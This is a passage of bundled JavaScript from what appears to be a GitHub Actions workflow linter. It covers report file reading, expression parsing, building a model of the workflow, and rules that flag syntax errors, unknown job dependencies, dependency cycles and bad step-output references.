        return { text, size: stat.size };
    }
    finally {
        await handle.close();
    }
}
/** Longest line accepted by {@link forEachLine}; longer ones mean a file that is not a line-based report. */
const MAX_LINE = (/* unused pure expression or super */ null && (1024 * 1024));
/** Calls `onLine`; a UserError it throws without a place is placed at this line of this file. */
function lineOf(onLine, line, lineNo, input, shown) {
    try {
        onLine(line, lineNo);
    }
    catch (err) {
        throw UserError.attribute(err, { input, file: shown, line: lineNo });
    }
}
/**
 * Calls `onLine` for every line of a file (without its line ending), streaming it in chunks so that
 * memory stays bounded whatever the size. A NUL byte or an over-long line ends it with a UserError.
 */
async function forEachLine(file, shown, input, onLine) {
    const decoder = new StringDecoder('utf8');
    let pending = '';
    let lineNo = 0;
    const stream = createReadStream(file, { highWaterMark: 1024 * 1024 });
    for await (const chunk of stream) {
        if (chunk.includes(0)) {
            stream.destroy();
            throw new UserError('binary data in a text report', { input, file: shown, line: lineNo + 1 });
        }
        let text = pending + decoder.write(chunk);
        let start = 0;
        for (;;) {
            const nl = text.indexOf('\n', start);
            if (nl < 0)
                break;
            let end = nl;
            if (end > start && text.charCodeAt(end - 1) === 13)
                end--;
            lineNo++;
            lineOf(onLine, text.slice(start, end), lineNo, input, shown);
            start = nl + 1;
        }
        pending = text.slice(start);
        text = '';
        if (pending.length > MAX_LINE) {
            stream.destroy();
            throw new UserError(`line longer than ${MAX_LINE} characters`, { input, file: shown, line: lineNo + 1 });
        }
    }
    pending += decoder.end();
    if (pending.length > 0) {
        if (pending.charCodeAt(pending.length - 1) === 13)
            pending = pending.slice(0, -1);
        lineNo++;
        lineOf(onLine, pending, lineNo, input, shown);
    }
    return lineNo;
}
/** Largest JSON report read whole (JSON formats are parsed in one piece). */
const MAX_JSON_BYTES = (/* unused pure expression or super */ null && (256 * 1024 * 1024));
/**
 * Reads and parses a JSON report whole, naming the file and line of a syntax error (found by
 * {@link jsonErrorOffset} when V8 gives no position) and calling a file that ends inside a value
 * truncated.
 */
async function readJsonText(file, shown, input) {
    const stat = await fs.stat(file);
    if (stat.size > MAX_JSON_BYTES) {
        throw new UserError(`JSON report larger than ${MAX_JSON_BYTES / 1024 / 1024} MB`, { input, file: shown });
    }
    let text = await fs.readFile(file, 'utf8');
    if (text.charCodeAt(0) === 0xfeff)
        text = text.slice(1);
    try {
        return { value: JSON.parse(text), text };
    }
    catch (err) {
        const offset = jsonErrorOffset(text);
        const end = text.trimEnd().length;
        const truncated = offset >= end;
        const line = text.slice(0, Math.min(offset, Math.max(0, end - 1)) + 1).split('\n').length;
        const reason = err.message.replace(/ in JSON at position \d+.*$/s, '').replace(/[,:]? *"[\s\S]*$/, '');
        throw new UserError(truncated ? 'truncated JSON (the file ends inside a value)' : `invalid JSON (${reason})`, { input, file: shown, line });
    }
}
/** Reads and parses a JSON report (see {@link readJsonText}). */
async function readJson(file, shown, input) {
    return (await readJsonText(file, shown, input)).value;
}
/**
 * Writes a file atomically: a temporary file beside it, flushed, then renamed over the target,
 * so that a reader sees the old content or the new one, never half of it. `mode` 0o755 writes an
 * executable.
 */
async function writeFileAtomic(target, content, mode = 0o644) {
    await external_node_fs_.promises.mkdir(external_node_path_.dirname(target), { recursive: true });
    const temp = external_node_path_.join(external_node_path_.dirname(target), `.${external_node_path_.basename(target)}.${(0,external_node_crypto_.randomBytes)(6).toString('hex')}.tmp`);
    const handle = await external_node_fs_.promises.open(temp, 'w', mode);
    try {
        await handle.writeFile(content, 'utf8');
        // The mode is set before the rename (the umask may have narrowed it), so no reader sees the file without it.
        if (mode !== 0o644)
            await handle.chmod(mode);
        await handle.sync();
    }
    finally {
        await handle.close();
    }
    try {
        await external_node_fs_.promises.rename(temp, target);
    }
    catch (err) {
        await external_node_fs_.promises.rm(temp, { force: true });
        throw err;
    }
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/internal/parser-messages.js
/**
 * Functions that exist but only at some keys (actionlint's SpecialFunctionNames): the parser
 * calls them unrecognised elsewhere.
 */
const SPECIAL_FUNCTIONS = new Map([
    ['always', ['jobs.<job_id>.if', 'jobs.<job_id>.steps.if']],
    ['cancelled', ['jobs.<job_id>.if', 'jobs.<job_id>.steps.if']],
    ['failure', ['jobs.<job_id>.if', 'jobs.<job_id>.steps.if']],
    ['success', ['jobs.<job_id>.if', 'jobs.<job_id>.steps.if']],
    [
        'hashfiles',
        ['jobs.<job_id>.steps.continue-on-error', 'jobs.<job_id>.steps.env', 'jobs.<job_id>.steps.if', 'jobs.<job_id>.steps.name', 'jobs.<job_id>.steps.run', 'jobs.<job_id>.steps.timeout-minutes', 'jobs.<job_id>.steps.with', 'jobs.<job_id>.steps.working-directory']
    ]
]);
function familyOf(problem) {
    if (problem.stage === 'read')
        return 'read';
    const m = problem.message;
    if (/^Unrecognized named-value/.test(m))
        return 'context';
    const fn = /^Unrecognized function: '(.*)'$/.exec(m);
    if (fn)
        return SPECIAL_FUNCTIONS.has(fn[1].toLowerCase()) ? 'function-not-allowed' : 'function';
    if (/^(Unexpected end of expression|Unexpected symbol|Exceeded max expression|Too (few|many) parameters|Even number of parameters|The expression is not closed|The directive '.*' is not allowed)/.test(m)) {
        return 'expression';
    }
    if (/depends on unknown job|creates a cycle in the dependency graph|at least one job with no dependencies/.test(m))
        return 'needs';
    return 'syntax';
}
/** A rule that reports the parser's messages of one family, at the parser's positions. */
function parserMessageRule(meta, family, rewrite = (m) => m) {
    return {
        ...meta,
        create(context) {
            return {
                file(file) {
                    const echoes = echoesOf(file.problems);
                    for (const p of file.problems) {
                        if (familyOf(p) !== family || echoes.has(p))
                            continue;
                        context.report(file.source, p, rewrite(p.message));
                    }
                }
            };
        }
    };
}
/**
 * The converter re-parses an `if: ${{ … }}` that the reader already refused, and then complains
 * about the `${{` itself: an echo of the first message at the same place, not a second fault.
 * Places counted once, so that a file of many messages costs linear time.
 */
function echoesOf(all) {
    const isEcho = (p) => /^Unexpected symbol: '\$\{\{'/.test(p.message);
    const place = (p) => `${p.at.line}:${p.at.column}`;
    const count = new Map();
    for (const p of all)
        if (isEcho(p))
            count.set(place(p), 0);
    if (count.size === 0)
        return new Set();
    for (const p of all)
        if (count.has(place(p)))
            count.set(place(p), count.get(place(p)) + 1);
    return new Set(all.filter((p) => isEcho(p) && count.get(place(p)) > 1));
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/unreadable-file.js
/** PG100 unreadable-file: a file that cannot be read as a workflow at all, or is not one. */

/* harmony default export */ const unreadable_file = (parserMessageRule({
    id: 'PG100',
    name: 'unreadable-file',
    level: 'error',
    description: 'A file that cannot be read as YAML text (larger than GitHub\'s 500 KB, nested too deeply, binary, not UTF-8, an alias bomb), or is not a workflow or action metadata at all.',
    help: 'GitHub reads workflows as UTF-8 YAML. A file that is binary, not UTF-8, larger than 512,000 bytes (GitHub runs no workflow file over 500 KB), nested deeper than 64 levels, of more than 100,000 YAML nodes or 10,000 aliases, or whose aliases expand to more than 200,000 nodes is refused before parsing, and a workflow of more than 10,000 jobs before it is analysed, so that it costs bounded time and memory; the other files are still checked. A file that parses as YAML but is not a workflow (several documents, such as a Kubernetes manifest; a top level that is not a mapping; neither `on:` nor `jobs:`, such as `dependabot.yml`), or not action metadata (none of `runs:`, `name:`, `inputs:` …), gets this one line instead of the parser\'s many messages. Fix the file, or leave it out of `paths` (or `ignore:` in the config).'
}, 'read'));

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/workflow-syntax.js
/** PG101 workflow-syntax: YAML and schema errors, as GitHub's own parser reports them. */

/* harmony default export */ const workflow_syntax = (parserMessageRule({
    id: 'PG101',
    name: 'workflow-syntax',
    level: 'error',
    description: "YAML and schema errors in a workflow or action.yml, with GitHub's own parser messages.",
    help: "The file is checked by `@actions/workflow-parser`, the parser GitHub's editor tooling uses, against the workflow or action schema: unknown keys, missing required keys, values of the wrong type, duplicate keys, invalid cron schedules and invalid YAML. The message is the parser's own; GitHub refuses such a workflow when it runs."
}, 'syntax'));

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/expression-syntax.js
/** PG102 expression-syntax: a `${{ }}` expression that does not parse. */

/* harmony default export */ const expression_syntax = (parserMessageRule({
    id: 'PG102',
    name: 'expression-syntax',
    level: 'error',
    description: 'An expression that does not parse: unbalanced parentheses, a stray symbol, an unclosed `${{`, wrong argument counts.',
    help: "Every `${{ }}` expression (and every `if:` condition) is parsed with `@actions/expressions`, GitHub's expression parser. An expression that does not parse fails the job when the runner evaluates it, often only on the branch that reaches it."
}, 'expression'));

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/unknown-context.js
/** PG103 unknown-context: a context name that does not exist, or is not available where it is used. */

/* harmony default export */ const unknown_context = (parserMessageRule({
    id: 'PG103',
    name: 'unknown-context',
    level: 'error',
    description: 'A context that does not exist, or is not available at that key (e.g. `steps` in `runs-on`).',
    help: 'Each workflow key allows its own set of contexts (`github`, `env`, `vars`, `secrets`, `matrix`, `needs`, `steps`, `inputs`, …): `steps` is not available in `runs-on`, `secrets` not in `if:`. A name outside that set is a typo or a context used too early; GitHub fails the workflow on it.'
}, 'context', (m) => m.replace(/^Unrecognized named-value: '(.*)'$/, "Unrecognized named-value: '$1' (not a context available here)")));

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/unknown-function.js
/** PG104 unknown-function: a function GitHub's expressions do not have. */

/* harmony default export */ const unknown_function = (parserMessageRule({
    id: 'PG104',
    name: 'unknown-function',
    level: 'error',
    description: 'A function that GitHub expressions do not provide (e.g. `toJson` is fine, `toYaml` is not).',
    help: 'Expressions have a fixed set of functions: `contains`, `startsWith`, `endsWith`, `format`, `join`, `toJSON`, `fromJSON`, `hashFiles`, `success`, `always`, `cancelled`, `failure` and `case`. Any other name fails the workflow.'
}, 'function'));

// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/index.js
var dist = __webpack_require__(2657);
// EXTERNAL MODULE: ./node_modules/@actions/expressions/dist/index.js + 15 modules
var expressions_dist = __webpack_require__(4058);
// EXTERNAL MODULE: ./node_modules/@actions/expressions/dist/ast.js
var ast = __webpack_require__(2049);
// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/templates/tokens/template-token.js + 1 modules
var template_token = __webpack_require__(2645);
;// CONCATENATED MODULE: ./.build/src/core/workflows/expressions.js
/**
 * Every `${{ }}` of a parsed file (and bare `if:` conditions), parsed with `@actions/expressions`
 * into property chains such as `steps.build.outputs.digest`, each segment with its position in
 * the file (internal to workflows-validation).
 */




/** Every context name, so that the parser builds a tree; unknown names are the parser rules' business. */
const CONTEXTS = ['github', 'env', 'vars', 'job', 'jobs', 'steps', 'runner', 'secrets', 'strategy', 'matrix', 'needs', 'inputs'];
/**
 * The functions of workflows that @actions/expressions does not know (its parser rejects an unknown name):
 * the status functions of `if:` and hashFiles. Without them, `if: failure() && steps.x.outcome == …` yields no chains.
 */
const WORKFLOW_FUNCTIONS = [
    ...['success', 'always', 'cancelled', 'failure'].map((name) => ({ name, minArgs: 0, maxArgs: 0 })),
    { name: 'hashFiles', minArgs: 1, maxArgs: 255 }
];
/** The tree of an expression with every context and workflow function known; undefined when it does not parse (the syntax rules report that). */
function parseExpression(text) {
    try {
        return new expressions_dist/* Parser */.iX(new expressions_dist/* Lexer */.JG(text).lex().tokens, CONTEXTS, WORKFLOW_FUNCTIONS).parse();
    }
    catch {
        return undefined;
    }
}
/** The expressions inside a token (and all under it), with their positions. */
function expressionSites(token, bareIf = false) {
    if (!token)
        return [];
    const sites = [];
    if (bareIf && (0,dist/* isString */.Kg)(token) && !token.value.includes('${{')) {
        // `if:` without ${{ }} is an expression too; skip the quote a quoted scalar starts with.
        const start = token.range?.start ?? { line: 1, column: 1 };
        const quoted = token.source !== undefined && /^['"]/.test(token.source);
        sites.push({ text: token.value, at: { line: start.line, column: start.column + (quoted ? 1 : 0) } });
        return sites;
    }
    for (const [, t] of template_token/* TemplateToken */.s.traverse(token, true)) {
        if ((0,dist/* isString */.Kg)(t) && t.value.includes('${{')) {
            // The parser leaves a whole value as a string when one of its `${{ }}` fails: the others
            // are still expressions, and one fault must not hide the findings in them.
            sites.push(...stringSites(t));
            continue;
        }
        if (!(0,dist/* isBasicExpression */.hR)(t))
            continue;
        for (const o of t.originalExpressions ?? [t]) {
            const at = o.expressionRange?.start ?? (o.range ? { line: o.range.start.line, column: o.range.start.column + 4 } : { line: 1, column: 1 });
            sites.push({ text: o.expression, at });
        }
    }
    return sites;
}
/** The context chains of an expression; none when it does not parse (the syntax rules report that). */
function contextChains(site) {
    let tree;
    try {
        tree = new expressions_dist/* Parser */.iX(new expressions_dist/* Lexer */.JG(site.text).lex().tokens, CONTEXTS, WORKFLOW_FUNCTIONS).parse();
    }
    catch {
        return [];
    }
    const chains = [];
    const toPos = (p) => p.line === 0 ? { line: site.at.line, column: site.at.column + p.column } : { line: site.at.line + p.line, column: p.column + 1 };
    const visit = (e) => {
        if (!e)
            return;
        if (e instanceof ast/* IndexAccess */.p_ || e instanceof ast/* ContextAccess */.QC) {
            const segments = [];
            let cur = e;
            while (cur instanceof ast/* IndexAccess */.p_) {
                const index = cur.index;
                if (index instanceof ast/* Literal */.uS) {
                    const v = index.token.value ?? index.token.lexeme;
                    segments.unshift({ name: String(v), at: toPos(index.token.range.start) });
                }
                else if (index.constructor.name === 'Star') {
                    segments.unshift({ name: '*', at: segments[0]?.at ?? site.at });
                }
                else {
                    // A computed index (`steps[matrix.id]`): the chain cannot be followed past it.
                    visit(index);
                    segments.length = 0;
                }
                cur = cur.expr;
            }
            if (cur instanceof ast/* ContextAccess */.QC) {
                segments.unshift({ name: cur.name.lexeme, at: toPos(cur.name.range.start) });
                chains.push({ expression: site.text, segments });
            }
            else
                visit(cur);
            return;
        }
        if (e instanceof ast/* FunctionCall */.R6)
            e.args.forEach(visit);
        else if (e instanceof ast/* Logical */.oD)
            e.args.forEach(visit);
        else if (e instanceof ast/* Binary */.yI) {
            visit(e.left);
            visit(e.right);
        }
        else if (e instanceof ast/* Unary */._c)
            visit(e.expr);
        else if (e instanceof ast/* Grouping */.aU)
            visit(e.group);
    };
    visit(tree);
    return chains;
}
/**
 * The `${{ }}` of a string the parser did not convert (one of them failed), positioned as the
 * parser positions them (its template reader's parseScalar): each still reaches the rules.
 */
function stringSites(token) {
    const sites = [];
    const range = token.range;
    if (!range)
        return sites;
    const single = range.start.line === range.end.line;
    const raw = single ? token.value : (token.source ?? token.value);
    const quoteOffset = single ? (token.source ?? raw).indexOf('${{') - raw.indexOf('${{') : 0;
    let start = raw.indexOf('${{');
    while (start >= 0) {
        let end = -1;
        let inString = false;
        let i = start + 3;
        for (; i < raw.length; i++) {
            if (raw[i] === "'")
                inString = !inString;
            else if (!inString && raw[i] === '}' && raw[i - 1] === '}') {
                end = i;
                break;
            }
        }
        if (end < 0)
            break;
        const inner = raw.slice(start + 3, end - 1);
        const text = inner.trim();
        const lead = inner.length - inner.trimStart().length;
        if (text) {
            if (single)
                sites.push({ text, at: { line: range.start.line, column: range.start.column + start + quoteOffset + 3 + lead } });
            else {
                const before = raw.slice(0, start);
                const lineStart = before.lastIndexOf('\n');
                sites.push({ text, at: { line: range.start.line + before.split('\n').length, column: start - lineStart + 3 + lead } });
            }
        }
        start = raw.indexOf('${{', end + 1);
    }
    return sites;
}
/** Parses an expression site; undefined when it does not parse (the syntax rules report that). */
function parseSite(site) {
    try {
        const tree = new expressions_dist/* Parser */.iX(new expressions_dist/* Lexer */.JG(site.text).lex().tokens, CONTEXTS, WORKFLOW_FUNCTIONS).parse();
        const toPos = (p) => p.line === 0 ? { line: site.at.line, column: site.at.column + p.column } : { line: site.at.line + p.line, column: p.column + 1 };
        return { tree, toPos };
    }
    catch {
        return undefined;
    }
}

;// CONCATENATED MODULE: ./.build/src/core/suggest.js
/**
 * "Did you mean" hints for names a user typed: rule inputs, gate metrics, command-line flags and
 * commands share one measure of a near miss.
 */
/** The candidate closest to `name` when it is a near miss (a typo), else undefined. */
function nearest(name, candidates) {
    let best;
    let bestDistance = Infinity;
    for (const c of candidates) {
        const d = distance(name.toLowerCase(), c.toLowerCase());
        if (d < bestDistance) {
            best = c;
            bestDistance = d;
        }
    }
    const limit = Math.max(1, Math.floor(name.length / 3));
    return best !== undefined && bestDistance <= Math.min(limit, 3) ? best : undefined;
}
/** ` (did you mean "x"?)` for a near miss of `name` among `candidates`, else an empty string. */
function didYouMean(name, candidates) {
    const best = nearest(name, candidates);
    return best !== undefined ? ` (did you mean "${best}"?)` : '';
}
/**
 * Optimal string alignment distance: Levenshtein plus adjacent transpositions as one edit, since
 * `buidl` for `build` is the commonest typo there is.
 */
function distance(a, b) {
    if (a === b)
        return 0;
    const rows = [Array.from({ length: b.length + 1 }, (_, j) => j)];
    for (let i = 1; i <= a.length; i++) {
        const cur = [i];
        for (let j = 1; j <= b.length; j++) {
            let d = Math.min(rows[i - 1][j] + 1, cur[j - 1] + 1, rows[i - 1][j - 1] + (a[i - 1] === b[j - 1] ? 0 : 1));
            if (i > 1 && j > 1 && a[i - 1] === b[j - 2] && a[i - 2] === b[j - 1])
                d = Math.min(d, rows[i - 2][j - 2] + 1);
            cur[j] = d;
        }
        rows.push(cur);
    }
    return rows[a.length][b.length];
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/model.js



// --- building ---------------------------------------------------------------------------------
function pos(token) {
    return token?.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 };
}
/** A scalar's text: literals as written, expressions as `${{ … }}`. */
function scalar(token) {
    if (!token)
        return undefined;
    if ((0,dist/* isLiteral */.c$)(token))
        return { value: token.toString(), at: pos(token) };
    if ((0,dist/* isBasicExpression */.hR)(token))
        return { value: token.toDisplayString(), at: pos(token) };
    return undefined;
}
function entries(token) {
    const map = new Map();
    if (!token || !(0,dist/* isMapping */.pi)(token))
        return map;
    for (const pair of token) {
        const key = scalar(pair.key);
        if (key && !map.has(key.value))
            map.set(key.value, { key, value: pair.value });
    }
    return map;
}
function keyOf(token, name) {
    for (const pair of token) {
        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === name)
            return { key: scalar(pair.key), value: pair.value };
    }
    return undefined;
}
function buildSteps(token) {
    const steps = [];
    if (!token || !(0,dist/* isSequence */.wZ)(token))
        return steps;
    let index = 0;
    for (const item of token) {
        if (!(0,dist/* isMapping */.pi)(item))
            continue;
        const e = entries(item);
        const expressions = [...expressionSites(item)];
        const ifEntry = e.get('if');
        // A bare `if:` string is an expression too, though the token tree holds it as a string.
        if (ifEntry && (0,dist/* isString */.Kg)(ifEntry.value))
            expressions.push(...expressionSites(ifEntry.value, true));
        steps.push({
            index: index++,
            at: pos(item),
            id: scalar(e.get('id')?.value),
            name: scalar(e.get('name')?.value),
            uses: scalar(e.get('uses')?.value),
            run: scalar(e.get('run')?.value),
            if: scalar(ifEntry?.value),
            with: entries(e.get('with')?.value),
            withKey: e.get('with')?.key,
            env: entries(e.get('env')?.value),
            expressions,
            token: item
        });
    }
    return steps;
}
function buildJob(id, token) {
    const e = entries(token);
    const needsToken = e.get('needs')?.value;
    const needs = [];
    if (needsToken && (0,dist/* isSequence */.wZ)(needsToken)) {
        for (const n of needsToken) {
            const s = scalar(n);
            if (s)
                needs.push(s);
        }
    }
    else {
        const s = scalar(needsToken);
        if (s)
            needs.push(s);
    }
    const secretsToken = e.get('secrets')?.value;
    const expressions = [];
    for (const [name, entry] of e) {
        if (name === 'steps' || name === 'outputs')
            continue;
        expressions.push(...expressionSites(entry.value, name === 'if'));
    }
    return {
        id,
        at: id.at,
        name: scalar(e.get('name')?.value),
        needs,
        outputs: entries(e.get('outputs')?.value),
        uses: scalar(e.get('uses')?.value),
        with: entries(e.get('with')?.value),
        withKey: e.get('with')?.key,
        secrets: secretsToken && (0,dist/* isString */.Kg)(secretsToken) && secretsToken.value === 'inherit' ? 'inherit' : entries(secretsToken),
        secretsKey: e.get('secrets')?.key,
        environment: e.get('environment')?.value,
        runsOn: e.get('runs-on')?.value,
        strategy: e.get('strategy')?.value,
        services: e.get('services')?.value,
        container: e.get('container')?.value,
        concurrency: e.get('concurrency')?.value,
        permissions: e.get('permissions')?.value,
        if: scalar(e.get('if')?.value),
        steps: buildSteps(e.get('steps')?.value),
        expressions,
        outputExpressions: expressionSites(e.get('outputs')?.value),
        token
    };
}
function byLowerId(jobs) {
    const map = new Map();
    for (const j of jobs) {
        const key = j.id.value.toLowerCase();
        if (!map.has(key))
            map.set(key, j);
    }
    return map;
}
/** The jobs `job` needs directly that the workflow has (unknown names left out). */
function neededJobs(workflow, job) {
    const out = [];
    for (const need of job.needs) {
        const next = workflow.jobsByLowerId.get(need.value.toLowerCase());
        if (next)
            out.push(next);
    }
    return out;
}
const namesOf = new WeakMap();
/** Jobs by their `name:` (the first of a name), built once per workflow. */
function jobsByName(workflow) {
    let map = namesOf.get(workflow);
    if (!map) {
        map = new Map();
        for (const j of workflow.jobs)
            if (j.name && !map.has(j.name.value))
                map.set(j.name.value, j);
        namesOf.set(workflow, map);
    }
    return map;
}
/**
 * Most "did you mean" searches among a workflow's job ids: each compares the name with every id,
 * so thousands of unknown names in a workflow of thousands of jobs would be quadratic. Past it the
 * findings keep their message without the hint (only the first 100 of a file are shown anyway).
 */
const JOB_SUGGESTIONS_PER_WORKFLOW = 100;
const suggestionsMade = new WeakMap();
/** ` (did you mean "x"?)` for a near miss of a job id, within the workflow's budget of searches. */
function suggestJob(workflow, name) {
    const made = suggestionsMade.get(workflow) ?? 0;
    if (made >= JOB_SUGGESTIONS_PER_WORKFLOW)
        return '';
    suggestionsMade.set(workflow, made + 1);
    return didYouMean(name, workflow.jobsById.keys());
}
/** The model of a workflow from the root token GitHub's parser read. */
function buildWorkflow(file, root) {
    const e = entries(root);
    const onToken = e.get('on')?.value;
    const on = new Map();
    if (onToken && (0,dist/* isMapping */.pi)(onToken))
        for (const [k, v] of entries(onToken))
            on.set(k, v);
    else if (onToken && (0,dist/* isSequence */.wZ)(onToken)) {
        for (const t of onToken) {
            const s = scalar(t);
            if (s)
                on.set(s.value, { key: s, value: t });
        }
    }
    else {
        const s = scalar(onToken);
        if (s)
            on.set(s.value, { key: s, value: onToken });
    }
    const call = on.get('workflow_call');
    const callEntries = call ? entries(call.value) : undefined;
    const jobs = [];
    const jobsToken = e.get('jobs')?.value;
    if (jobsToken && (0,dist/* isMapping */.pi)(jobsToken)) {
        for (const pair of jobsToken) {
            const id = scalar(pair.key);
            if (id && (0,dist/* isMapping */.pi)(pair.value))
                jobs.push(buildJob(id, pair.value));
        }
    }
    const expressions = [];
    for (const name of ['run-name', 'env', 'concurrency'])
        expressions.push(...expressionSites(e.get(name)?.value));
    return {
        kind: 'workflow',
        file,
        name: scalar(e.get('name')?.value),
        on,
        workflowCall: call
            ? {
                key: call.key,
                inputs: entries(callEntries?.get('inputs')?.value),
                secrets: entries(callEntries?.get('secrets')?.value),
                outputs: entries(callEntries?.get('outputs')?.value)
            }
            : undefined,
        permissions: keyOf(root, 'permissions'),
        concurrency: keyOf(root, 'concurrency'),
        env: entries(e.get('env')?.value),
        jobs,
        jobsById: new Map(jobs.map((j) => [j.id.value, j])),
        jobsByLowerId: byLowerId(jobs),
        expressions,
        root
    };
}
/** The model of action metadata from the root token GitHub's parser read. */
function buildAction(file, root) {
    const e = entries(root);
    const inputs = new Map();
    for (const [name, entry] of entries(e.get('inputs')?.value)) {
        const spec = entries(entry.value);
        const required = spec.get('required')?.value;
        inputs.set(name, {
            key: entry.key,
            required: required !== undefined && (0,dist/* isLiteral */.c$)(required) && String(required.toString()).toLowerCase() === 'true',
            hasDefault: spec.has('default'),
            deprecated: spec.has('deprecationMessage')
        });
    }
    const runs = entries(e.get('runs')?.value);
    return {
        kind: 'action',
        file,
        name: scalar(e.get('name')?.value),
        inputs,
        outputs: entries(e.get('outputs')?.value),
        using: scalar(runs.get('using')?.value),
        steps: buildSteps(runs.get('steps')?.value),
        root
    };
}
/**
 * A `uses:` of this repository at the running commit: workspace-relative `./path`, or GitHub's
 * self-repository reference `$/path` (resolved at the workflow's own commit, no checkout needed).
 */
function isLocalUses(uses) {
    const value = uses?.trim();
    return !!value && (value.startsWith('./') || value.startsWith('$/'));
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/needs-unknown-job.js

const rule = {
    id: 'PG110',
    name: 'needs-unknown-job',
    level: 'error',
    description: '`needs:` names a job that the workflow does not define.',
    help: 'A job can only wait for jobs of the same workflow, by their ids (the keys under `jobs:`, not their `name:`). GitHub refuses the whole workflow when one `needs:` entry is unknown. Job ids are case-insensitive.',
    create(context) {
        return {
            jobPre(job, workflow) {
                for (const need of job.needs) {
                    if (workflow.jobsByLowerId.has(need.value.toLowerCase()))
                        continue;
                    const byName = jobsByName(workflow).get(need.value);
                    const hint = byName ? ` ("${need.value}" is the name of job "${byName.id.value}"; needs takes job ids)` : suggestJob(workflow, need.value);
                    context.report(workflow.file, need, `job "${job.id.value}" needs unknown job "${need.value}"${hint}`);
                }
            }
        };
    }
};
/* harmony default export */ const needs_unknown_job = (rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/needs-cycle.js
/** Most jobs a cycle's message spells out (a cycle may run through thousands). */
const CYCLE_SHOWN = 10;
const needs_cycle_rule = {
    id: 'PG111',
    name: 'needs-cycle',
    level: 'error',
    description: 'Jobs whose `needs:` form a cycle, so that none of them can ever start.',
    help: 'GitHub runs a job once every job in its `needs:` has finished; when jobs need each other in a cycle, the workflow is refused. Break the cycle by removing one of the `needs:` entries named in the message.',
    create(context) {
        return {
            workflowPost(workflow) {
                // An iterative depth-first search (a chain of thousands of jobs would overflow the call
                // stack), each job's place on the stack kept, so that a cycle costs no search: linear.
                const done = new Set();
                const onStack = new Map();
                const stack = [];
                const reported = new Set();
                for (const root of workflow.jobs) {
                    if (done.has(root))
                        continue;
                    onStack.set(root, 0);
                    stack.push({ job: root, next: 0 });
                    while (stack.length) {
                        const frame = stack[stack.length - 1];
                        const needs = frame.job.needs;
                        if (frame.next >= needs.length) {
                            stack.pop();
                            onStack.delete(frame.job);
                            done.add(frame.job);
                            continue;
                        }
                        const need = needs[frame.next++];
                        const next = workflow.jobsByLowerId.get(need.value.toLowerCase());
                        if (!next || done.has(next))
                            continue;
                        const at = onStack.get(next);
                        if (at === undefined) {
                            onStack.set(next, stack.length);
                            stack.push({ job: next, next: 0 });
                            continue;
                        }
                        // A back edge closes the cycle stack[at] → … → this job → next.
                        const key = `${frame.job.id.value}\0${next.id.value}`;
                        if (reported.has(key))
                            continue;
                        reported.add(key);
                        const length = stack.length - at;
                        const shown = stack.slice(at, at + Math.min(length, CYCLE_SHOWN)).map((f) => f.job.id.value);
                        const path = length <= CYCLE_SHOWN ? [...shown, next.id.value].join(' -> ') : `${shown.join(' -> ')} -> … -> ${frame.job.id.value} -> ${next.id.value} (${length} jobs)`;
                        context.report(workflow.file, need, `jobs form a dependency cycle: ${path}`);
                    }
                }
            }
        };
    }
};
/* harmony default export */ const needs_cycle = (needs_cycle_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rule.js
/** Quotes a list of names for a message: `"a", "b"`, or `none`. */
function nameList(names, most = NAME_LIST_MOST) {
    const list = [];
    let count = 0;
    for (const n of names)
        if (count++ < most)
            list.push(`"${n}"`);
    if (count > most)
        list.push(`… ${count - most} more`);
    return list.length ? list.join(', ') : 'none';
}
/** Most names a message lists (a job may need thousands; a finding stays one readable line). */
const NAME_LIST_MOST = 10;

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/step-outputs-reference.js
/** PG112 step-outputs-reference: `steps.X` where no step `X` runs before, in that job. */



const step_outputs_reference_rule = {
    id: 'PG112',
    name: 'step-outputs-reference',
    level: 'error',
    description: '`steps.X.outputs.Y` (or `steps.X.outcome`) where no step with id `X` runs before it in the same job.',
    help: 'The `steps` context holds only the steps of the current job (or composite action) that have already run, by their `id:`. A reference to a step that does not exist, or that runs later, evaluates to an empty string: the workflow runs on with a silently empty value. Give the step an `id:` and refer to it only after it.',
    create(context) {
        /** `sites` may name the steps of `all` before index `upTo` (all of them for outputs). */
        const check = (file, sites, all, upTo, owner) => {
            const known = new Set(all.slice(0, upTo).flatMap((s) => (s.id ? [s.id.value] : [])));
            for (const site of sites) {
                for (const chain of contextChains(site)) {
                    const [ctx, step] = chain.segments;
                    if (ctx.name !== 'steps' || !step || step.name === '*' || known.has(step.name))
                        continue;
                    const at = all.findIndex((s) => s.id?.value === step.name);
                    let message;
                    if (at === upTo)
                        message = `step "${step.name}" refers to its own outputs, which do not exist until it has run`;
                    else if (at > upTo)
                        message = `step "${step.name}" runs after this step in ${owner}: its outputs are empty here`;
                    else {
                        const ids = all.flatMap((s) => (s.id ? [s.id.value] : []));
                        message = `no step with id "${step.name}" before this point in ${owner} (step ids: ${nameList(known)})${didYouMean(step.name, ids)}`;
                    }
                    context.report(file, step, message);
                }
            }
        };
        return {
            jobPre(job, workflow) {
                const owner = `job "${job.id.value}"`;
                job.steps.forEach((step, i) => check(workflow.file, step.expressions, job.steps, i, owner));
                check(workflow.file, job.outputExpressions, job.steps, job.steps.length, owner);
            },
            actionPre(action) {
                action.steps.forEach((step, i) => check(action.file, step.expressions, action.steps, i, 'the composite action'));
                const outputs = [...action.outputs.values()].flatMap((o) => expressionSites(o.value));
                check(action.file, outputs, action.steps, action.steps.length, 'the composite action');
            }
        };
    }
};
/* harmony default export */ const step_outputs_reference = (step_outputs_reference_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/needs-outputs-reference.js
/** PG113 needs-outputs-reference: `needs.X.outputs.Y` where X is not needed or has no output Y. */




const needs_outputs_reference_rule = {
    id: 'PG113',
    name: 'needs-outputs-reference',
